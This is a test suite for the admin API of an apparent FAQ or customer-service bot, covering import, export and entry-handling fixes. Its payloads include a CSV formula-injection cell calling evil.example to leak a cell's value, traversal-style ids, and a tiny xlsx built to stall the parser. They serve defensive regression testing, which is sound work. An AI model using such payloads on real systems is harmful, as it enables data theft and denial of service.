import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { HIT_WHERE } from "../src/insights/answer-log";
import { parseCsv } from "../src/kb/import/csv";
import { xlsxZip } from "../src/kb/import/test-xlsx";
import { apiClient } from "./helpers/admin-api";
import { startTestServer, type TestServer } from "./helpers/server";

/**
 * Review of the issue-14 admin API, end to end against a real server: what an attacker's or a careless
 * user's input did before these fixes.
 */

let s: TestServer;
let admin: string;
beforeAll(async () => {
  s = await startTestServer({ log: { level: "warn" }, answer: { ask_open: true } });
  admin = await s.login("admin");
}, 30_000);
afterAll(() => s.stop());

type Json = Record<string, any>;
const api = apiClient(() => s, () => admin);
const ask = async (text: string) =>
  (await (await fetch(`${s.url}/api/ask`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ text, lang: "en" }) })).json()) as Json;
const logIdsOf = (prefix: string) =>
  (s.kefu.ctx.db.query("SELECT id FROM insights_answers WHERE question LIKE ? ORDER BY id").all(`${prefix}%`) as { id: number }[]).map((r) => r.id);

describe("entries", () => {
  test("POST of a question that is already an entry (no id given) is a 409, not a silent replacement", async () => {
    const first = await api("/api/admin/kb/entries", { body: { question: "zq4 Do you ship to Macau?", answer: "Yes, 3-5 days.", alt_questions: ["zq4 macau delivery"], tags: ["shipping"] } });
    expect(first.status).toBe(201);
    const { id } = (await first.json()) as Json;
    const again = await api("/api/admin/kb/entries", { body: { question: "zq4 Do you ship to Macau?", answer: "No." } });
    expect(again.status).toBe(409);
    expect(((await again.json()) as Json).error.message).toContain(id);
    expect(s.kefu.ctx.kb.get(id)).toMatchObject({ answer: "Yes, 3-5 days.", alts: ["zq4 macau delivery"], tags: ["shipping"] });
  });
});

describe("entry hits", () => {
  test("are counted from an index of the hit rows, not by reading every answer row of the entries (1.1 s a page at 900,000 hits)", () => {
    const plan = (sql: string) => (s.kefu.ctx.db.query(`EXPLAIN QUERY PLAN ${sql}`).all("a", "b") as { detail: string }[]).map((r) => r.detail).join("; ");
    const perEntry = plan(`SELECT entry_id, count(*), max(created_at) FROM insights_answers WHERE entry_id IS NOT NULL AND ${HIT_WHERE} AND entry_id IN (?, ?) GROUP BY entry_id`);
    expect(perEntry).toMatch(/USING (COVERING )?INDEX insights_answers_hits/);
  });
});

describe("binary files", () => {
  test("a photo or PDF picked by mistake is refused, not imported as a document the bot would quote", async () => {
    const junk = new Uint8Array(3000).map((_, i) => (i * 7919 + 13) % 256);
    const before = s.kefu.ctx.kb.documents.list().length;
    const form = new FormData();
    form.set("file", new File([junk], "faq.pdf", { type: "application/pdf" }));
    const upload = await fetch(`${s.url}/api/admin/kb/import`, { method: "POST", headers: { authorization: `Bearer ${admin}` }, body: form });
    expect(upload.status).toBe(400);
    expect(((await upload.json()) as Json).error.message).toContain("not a text file");
    const raw = await fetch(`${s.url}/api/admin/kb/import`, { method: "POST", headers: { authorization: `Bearer ${admin}`, "content-type": "application/octet-stream" }, body: junk });
    expect(raw.status).toBe(400);
    expect(s.kefu.ctx.kb.documents.list().length).toBe(before);
    // A UTF-16 text file (its byte-order mark first) is text, not binary.
    const utf16 = Buffer.from("\uFEFFquestion,answer\r\nzq5 能开发票吗？,能。\r\n", "utf16le");
    const text = await fetch(`${s.url}/api/admin/kb/import?dry_run=true`, { method: "POST", headers: { authorization: `Bearer ${admin}`, "content-type": "text/csv" }, body: utf16 });
    expect(((await text.json()) as Json).added).toMatchObject([{ question: "zq5 能开发票吗?" }]);
  });
});

describe("import options in the query", () => {
  const csv = "question,answer\nzq6 Do you deliver on Sundays?,Yes.\n";
  const post = (query: string, init: { headers?: Record<string, string>; body: string | FormData }) =>
    fetch(`${s.url}/api/admin/kb/import${query}`, { method: "POST", headers: { authorization: `Bearer ${admin}`, ...init.headers }, body: init.body });

  test("?dry_run=true beside a JSON or multipart body previews (it was ignored: the file was applied)", async () => {
    const v = s.kefu.ctx.kb.version();
    const json = await post("?dry_run=true", { headers: { "content-type": "application/json" }, body: JSON.stringify({ text: csv, format: "csv" }) });
    expect(((await json.json()) as Json)).toMatchObject({ dry_run: true, applied: false, counts: { added: 1 } });
    const form = new FormData();
    form.set("file", new File([csv], "faq.csv"));
    const multipart = await post("?dry_run=true&mode=replace", { body: form });
    expect(((await multipart.json()) as Json)).toMatchObject({ dry_run: true, mode: "replace", applied: false });
    expect(s.kefu.ctx.kb.version()).toBe(v);
    // The same field in both places, or an unknown one: a 400, nothing written.
    const both = await post("?dry_run=true", { headers: { "content-type": "application/json" }, body: JSON.stringify({ text: csv, dry_run: false }) });
    expect(both.status).toBe(400);
    expect(((await both.json()) as Json).error.message).toContain("dry_run");
    expect((await post("?dryrun=true", { headers: { "content-type": "application/json" }, body: JSON.stringify({ text: csv }) })).status).toBe(400);
    expect((await post("?text=x", { headers: { "content-type": "text/csv" }, body: csv })).status).toBe(400);
    expect(s.kefu.ctx.kb.version()).toBe(v);
  });
});

describe("replace import", () => {
  test("a rejected line without an id keeps its entry (the id its question gives), as one with an id does", async () => {
    const made = await api("/api/admin/kb/entries", { body: { question: "zq7 Do you gift wrap?", answer: "Yes, 2 yuan." } });
    const { id } = (await made.json()) as Json;
    for (const [format, text] of [
      ["csv", "question,answer\nzq7 Do you gift wrap?,\nzq7 Another question?,Yes.\n"],
      ["jsonl", '{"question":"zq7 Do you gift wrap?","answer":"Yes","enabled":"maybe"}\n{"question":"zq7 Another question?","answer":"Yes."}\n'],
    ]) {
      const r = await api("/api/admin/kb/import", { body: { text, format, mode: "replace", skip_invalid: true, dry_run: true } });
      const report = (await r.json()) as Json;
      expect(report.counts.rejected).toBe(1);
      expect(report.rejected[0].id).toBe(id);
      expect(report.deleted.map((d: Json) => d.id)).not.toContain(id);
    }
  });
});

describe("large imports", () => {
  test("20,000 questions written from one template are checked for near-duplicates in bounded time (65 s before)", async () => {
    const rows = Array.from({ length: 20_000 }, (_, i) => `How much is the ${["red", "blue", "green"][i % 3]} shirt size ${i % 50} model ${i}?,See the price list.`);
    const res = await fetch(`${s.url}/api/admin/kb/import?dry_run=true`, {
      method: "POST",
      headers: { authorization: `Bearer ${admin}`, "content-type": "text/csv" },
      body: `question,answer\n${rows.join("\n")}\n`,
    });
    const report = (await res.json()) as Json;
    expect(report.counts.added).toBe(20_000);
    expect(report.near_duplicates.length).toBeGreaterThan(0);
    expect(report.near_duplicates.length).toBeLessThanOrEqual(200);
  });
});

describe("entry ids", () => {
  test("an id no URL can name (a slash, a backslash, a dot segment) is refused, not made unreachable", async () => {
    for (const id of ["faq/shipping", "faq\\returns", ".."]) {
      const r = await api("/api/admin/kb/entries", { body: { id, question: `zq8 ${id}?`, answer: "a" } });
      expect(r.status).toBe(400);
      expect(((await r.json()) as Json).error.code).toBe("invalid_entry");
    }
    const imported = await api("/api/admin/kb/import", { body: { text: "id,question,answer\nzq8/x,zq8 slash?,a\nzq8-ok,zq8 fine?,b\n", format: "csv", dry_run: true } });
    const report = (await imported.json()) as Json;
    expect(report.rejected).toMatchObject([{ line: 2, id: "zq8/x" }]);
    expect(report.added).toMatchObject([{ id: "zq8-ok" }]);
    const doc = await api("/api/admin/kb/import", { body: { text: "Opening hours: 9 to 6.", format: "document", document_id: "docs/hours" } });
    expect(doc.status).toBe(400);
    // What is made can be read back by its id.
    expect((await api("/api/admin/kb/entries", { body: { id: "zq8.faq-1", question: "zq8 dotted id?", answer: "a" } })).status).toBe(201);
    expect((await api(`/api/admin/kb/entries/${encodeURIComponent("zq8.faq-1")}`)).status).toBe(200);
  });
});

describe("CSV headers", () => {
  test("a column given twice (question and 问题) is a refused file, not the last one read silently", async () => {
    const r = await api("/api/admin/kb/import", { body: { text: "question,answer,问题\nzq9 the real question?,an answer,a note\n", format: "csv", dry_run: true } });
    const report = (await r.json()) as Json;
    expect(report.added).toEqual([]);
    expect(report.rejected[0].error).toContain('two columns are "question"');
  });
});

describe("xlsx import", () => {
  test("a tiny workbook whose rows never close is read in linear time (it blocked the server for minutes)", async () => {
    // 200,000 unclosed <row> tags deflate to about 2 KB; the row pattern rescanned the rest of the sheet from each.
    const book = xlsxZip({ "xl/worksheets/sheet1.xml": `<worksheet><sheetData>${"<row>".repeat(200_000)}<c><v>1</v></c></sheetData></worksheet>`, "xl/sharedStrings.xml": `<sst>${"<si><t>".repeat(100_000)}</sst>` });
    expect(book.length).toBeLessThan(10_000);
    const res = await fetch(`${s.url}/api/admin/kb/import?dry_run=true&format=xlsx`, {
      method: "POST",
      headers: { authorization: `Bearer ${admin}`, "content-type": "application/octet-stream" },
      body: book,
    });
    expect(res.status).toBe(200);
    expect(((await res.json()) as Json).rejected[0].error).toContain("empty file");
  });
});

describe("resolving unanswered questions", () => {
  test("a visitor's 3,500-character question does not become an alternative the entry API then refuses to save", async () => {
    await ask(`zq1 where is my order ${"please ".repeat(500)}`);
    await ask("zq1 where is my order now");
    const r = await api("/api/admin/unanswered/resolve", { body: { log_ids: logIdsOf("zq1"), entry: { question: "Where is my order?", answer: "See the tracking link." } } });
    expect(r.status).toBe(200);
    const entry = ((await r.json()) as Json).entry;
    expect(entry.alt_questions).toEqual(["zq1 where is my order now"]);
    // The console saves an entry with its own alternatives: that must still pass the entry API's limits.
    const put = await api(`/api/admin/kb/entries/${entry.id}`, { method: "PUT", body: { alt_questions: entry.alt_questions } });
    expect(put.status).toBe(200);
  });

  test("adding phrasings never takes an entry past the entry API's 500 alternatives", async () => {
    const alts = Array.from({ length: 499 }, (_, i) => `zq2 phrasing number ${i}`);
    expect((await api("/api/admin/kb/entries", { body: { id: "zq2-full", question: "zq2 full entry?", answer: "yes", alt_questions: alts } })).status).toBe(201);
    await ask("zq2 brand new wording alpha");
    await ask("zq2 another wording beta");
    const r = await api("/api/admin/unanswered/resolve", { body: { log_ids: logIdsOf("zq2"), entry_id: "zq2-full" } });
    expect(r.status).toBe(400);
    expect(((await r.json()) as Json).error.message).toContain("500");
    expect(s.kefu.ctx.kb.get("zq2-full")!.alts.length).toBe(499);
    // The rows stay unanswered: nothing was resolved.
    expect((await s.kefu.ctx.insights.byIds(logIdsOf("zq2"))).every((row) => row.resolved === null)).toBe(true);
    // One phrasing still fits.
    const one = await api("/api/admin/unanswered/resolve", { body: { log_ids: logIdsOf("zq2"), entry_id: "zq2-full", phrasings: ["zq2 brand new wording alpha"] } });
    expect(one.status).toBe(200);
    const entry = ((await one.json()) as Json).entry;
    expect(entry.alt_questions.length).toBe(500);
    expect((await api(`/api/admin/kb/entries/${entry.id}`, { method: "PUT", body: { alt_questions: entry.alt_questions } })).status).toBe(200);
  });
});

describe("CSV export", () => {
  test("cells an office suite would run as formulas are escaped, and import reads them back unchanged", async () => {
    // A visitor's question becomes an alternative through the Unanswered list: not only admins write these cells.
    const body = {
      id: "zq3-formula",
      question: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
      answer: "+86 400 123 4567",
      alt_questions: ["@SUM(1+1)", "-1+2 is a question too", "'=already quoted"],
      tags: ["=tag"],
    };
    expect((await api("/api/admin/kb/entries", { body })).status).toBe(201);
    const res = await api("/api/admin/kb/export?format=csv");
    const bytes = new Uint8Array(await res.arrayBuffer());
    // A byte-order mark, as the template has: Excel reads UTF-8 (Chinese entries) only with one.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    const { records, error } = parseCsv(text);
    expect(error).toBeUndefined();
    const row = records.find((r) => r.fields[0] === "zq3-formula")!;
    for (const cell of row.fields) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Exported and imported back: nothing changes.
    const back = await fetch(`${s.url}/api/admin/kb/import?dry_run=true`, { method: "POST", headers: { authorization: `Bearer ${admin}`, "content-type": "text/csv" }, body: text });
    const report = (await back.json()) as Json;
    expect(report.counts).toMatchObject({ added: 0, updated: 0, rejected: 0 });
    expect(report.unchanged.map((u: Json) => u.id)).toContain("zq3-formula");
  });
});
